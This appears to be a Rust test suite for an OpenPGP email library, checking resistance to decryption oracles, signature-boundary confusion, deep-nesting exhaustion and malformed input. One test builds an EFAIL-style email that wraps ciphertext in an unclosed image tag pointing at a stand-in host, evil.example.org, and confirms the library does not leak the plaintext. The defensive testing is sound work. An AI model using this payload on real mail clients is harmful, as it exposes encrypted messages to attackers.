//! What somebody makes to deceive the reader or to wear the program out.

use crate::{AT, JAPANESE, encrypted, inner, keys, opened, plain, read, ring, signed, team, texts};
use noroshi_post::{
    openpgp::{TeamKey, encrypt, sign_cleartext, sign_detached},
    sealed::{Covers, Ring, open},
};
use proptest::prelude::*;

const HANAKO: &str = "Hanako <hanako@example.net>";

#[test]
fn whatever_fails_in_decryption_is_told_alike_to_the_outside() {
    let (ours, other) = (team(), team());
    let message = encrypt(&inner(), &[ours.certificate()], None, AT).unwrap();
    let foreign = encrypt(&inner(), &[other.certificate()], None, AT).unwrap();
    let broken = message.replacen("A", "B", 40);
    let known = ring(vec![ours], &[]);
    let mut details = Vec::new();
    for raw in [&foreign[..], &broken, "no message", ""] {
        let raw = encrypted(HANAKO, raw.as_bytes());
        let opened = opened(&raw, &known);
        assert_eq!(keys(&opened), (vec![], "unopened"));
        assert_eq!(opened.seal.encrypted.len(), 1);
        let why = opened.seal.encrypted[0].opened.as_ref().unwrap_err();
        assert_eq!(why.told.key, "pgp-unopened");
        details.push(why.detail.key.to_string());
        assert!(matches!(opened.raw, std::borrow::Cow::Borrowed(_)), "it stands as it came");
    }
    assert_eq!(details[0], "sealed-other-key");
    let locked = Ring::new(Vec::new(), Vec::new(), vec![other.certificate().fingerprint()]);
    let raw = encrypted(HANAKO, foreign.as_bytes());
    assert_eq!(open(&raw, &locked, AT).seal.encrypted[0].opened.as_ref().unwrap_err().detail.key, "sealed-locked");
}

#[test]
fn a_ciphertext_between_words_of_another_is_not_taken_for_theirs() {
    let (ours, theirs) = (team(), TeamKey::generate(HANAKO, AT).unwrap());
    // Within, a line that looks like the boundary of the letter around it.
    let secret =
        [b"Content-Type: text/plain\r\n\r\nsecret\r\n--out\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example.org/?".as_slice(), b"\r\n"]
            .concat();
    let message = encrypt(&secret, &[ours.certificate()], Some(&theirs), AT).unwrap();
    let known = ring(vec![ours], &[theirs.certificate().to_bytes().unwrap()]);
    let pieces = encrypted(HANAKO, message.as_bytes());
    let pieces = String::from_utf8(pieces).unwrap();
    let (_, body) = pieces.split_once("\r\n\r\n").unwrap();
    let mixed = format!(
        "From: {HANAKO}\r\nContent-Type: multipart/mixed; boundary=evil\r\n\r\n--evil\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example.org/?\r\n--evil\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=out\r\n\r\n{body}\r\n--evil\r\nContent-Type: text/html\r\n\r\n\">\r\n--evil--\r\n"
    );
    let opened = opened(mixed.as_bytes(), &known);
    assert_eq!(keys(&opened), (vec!["good-part"], "encrypted"));
    assert_eq!(opened.seal.signatures[0].covers, Covers::Part("2".into()));
    let letter = read(&opened);
    let secret: Vec<_> = letter.parts.iter().filter(|part| part.text().is_some_and(|text| text.contains("secret"))).collect();
    assert_eq!(secret.iter().map(|part| (part.path.as_str(), part.media_type.as_str())).collect::<Vec<_>>(), [("2", "text/plain")]);
    assert!(secret[0].text().unwrap().contains("--out"), "it is not divided by a line within");
}

#[test]
fn two_readings_of_one_boundary_do_not_put_other_words_under_a_signature() {
    let theirs = TeamKey::generate(HANAKO, AT).unwrap();
    let known = ring(vec![], &[theirs.certificate().to_bytes().unwrap()]);
    let part = b"Content-Type: text/plain\r\n\r\nreal\r\n--out-other\r\n\r\nstill real";
    let signature = sign_detached(part, &theirs, AT).unwrap();
    let raw = signed(HANAKO, part, signature.armoured.as_bytes());
    let opened = opened(&raw, &known);
    assert_eq!(keys(&opened).0, ["good"]);
    let letter = read(&opened);
    let shown = letter.parts.iter().find(|part| part.path == "1").and_then(|part| part.text().map(std::borrow::Cow::into_owned)).unwrap();
    assert!(shown.contains("real") && shown.contains("still real"), "{:?}", letter.parts);
    assert!(!letter.parts.iter().any(|part| part.path != "1" && part.text().is_some_and(|text| text.contains("still"))));
}

#[test]
fn many_blocks_and_deep_nesting_end() {
    let (ours, theirs) = (team(), TeamKey::generate(HANAKO, AT).unwrap());
    let message = encrypt(b"x", &[ours.certificate()], None, AT).unwrap();
    let clear = String::from_utf8(sign_cleartext(JAPANESE, &theirs, AT).unwrap()).unwrap();
    let known = ring(vec![ours], &[theirs.certificate().to_bytes().unwrap()]);
    let raw = plain(HANAKO, message.repeat(60).as_bytes());
    let many = opened(&raw, &known);
    assert_eq!(many.seal.encrypted.iter().filter(|one| one.opened.is_ok()).count(), 32);
    assert_eq!(keys(&many).1, "unopened", "what was left is said");
    let parts = (0..100).map(|_| format!("--b\r\n\r\n{clear}\r\n")).collect::<String>();
    let raw = format!("From: {HANAKO}\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n");
    let many = opened(raw.as_bytes(), &known);
    assert_eq!((many.seal.signatures.len(), many.seal.left.len()), (64, 1));
    let mut deep = b"Content-Type: text/plain\r\n\r\nx".to_vec();
    for level in 0..200 {
        deep =
            [format!("Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n").as_bytes(), &deep, format!("\r\n--b{level}--\r\n").as_bytes()]
                .concat();
    }
    assert_eq!(keys(&opened(&deep, &known)), (vec![], "none"));
    let mut layers = inner();
    for _ in 0..23 {
        layers = encrypted(HANAKO, encrypt(&layers, &[known.team()[0].certificate()], None, AT).unwrap().as_bytes());
    }
    let layers = opened(&layers, &known);
    assert!(layers.seal.encrypted.len() < 23 && layers.seal.left.len() == 1 && !texts(&read(&layers)).contains("日本語"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn arbitrary_letters_never_panic_and_always_have_an_answer(raw in prop::collection::vec(any::<u8>(), 0..2_000)) {
        let _ = open(&raw, &Ring::default(), AT);
    }

    #[test]
    fn letters_put_together_of_pieces_can_be_read_as_before(pieces in prop::collection::vec(prop::sample::select(vec![
        "--b\r\n", "--b--\r\n", "--c\r\n", "--c--\r\n", "\r\n", "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=c\r\n\r\n",
        "Content-Type: multipart/encrypted; boundary=c\r\n\r\n", "Content-Type: application/pgp-signature\r\n\r\n", "Content-Type: application/pgp-encrypted\r\n\r\n",
        "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\n", "-----BEGIN PGP SIGNATURE-----\r\n", "-----END PGP SIGNATURE-----\r\n", "-----BEGIN PGP MESSAGE-----\r\n\r\n",
        "-----END PGP MESSAGE-----\r\n", "text\r\n", "--=_opened_0_\r\n", "Content-Transfer-Encoding: base64\r\n",
    ]), 0..40)) {
        let raw = format!("From: a@example.net\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{}", pieces.concat());
        let opened = open(raw.as_bytes(), &Ring::default(), AT);
        prop_assert!(!opened.seal.signatures.iter().any(|one| one.state.is_good()));
        prop_assert!(noroshi_post::letter::read(&opened.raw).is_ok());
    }
}
